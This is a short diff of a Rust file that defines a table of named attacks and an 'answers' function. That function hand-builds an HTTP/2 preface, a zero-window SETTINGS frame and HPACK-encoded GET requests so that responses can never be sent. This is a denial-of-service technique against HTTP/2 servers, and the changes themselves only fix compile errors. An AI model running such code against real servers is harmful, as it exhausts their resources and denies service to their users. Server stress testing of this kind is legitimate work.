@@ -35,7 +35,7 @@ pub struct Attack {
     pub begin: fn(&Target) -> Result<UnderWay>,
 }
 
-pub const ATTACKS: [Attack; 7] = [
+pub static ATTACKS: [Attack; 7] = [
     Attack { name: "bodies", victim: Victim::Me, begin: bodies },
     Attack { name: "bodies-of-holds", victim: Victim::Hold, begin: bodies },
     Attack { name: "answers", victim: Victim::List, begin: answers },
@@ -142,7 +142,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
 /// Many requests whose answers may not be sent: the window is zero, and stays so.
 fn answers(target: &Target) -> Result<UnderWay> {
     // HPACK: indexed :method GET and :scheme http, then literals that are not indexed.
-    let literal = |index: u8, text: &str| [&[index, u8::try_from(text.len()).unwrap_or_default()], text.as_bytes()].concat();
+    let literal = |index: u8, text: &str| [&[index, u8::try_from(text.len()).unwrap_or_default()][..], text.as_bytes()].concat();
     let head = [vec![0x82, 0x86], literal(0x04, "/api/events?limit=100"), literal(0x01, "a.example")].concat();
     let mut begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
     begin.extend(frame(4, 0, 0, &[0, 4, 0, 0, 0, 0]));
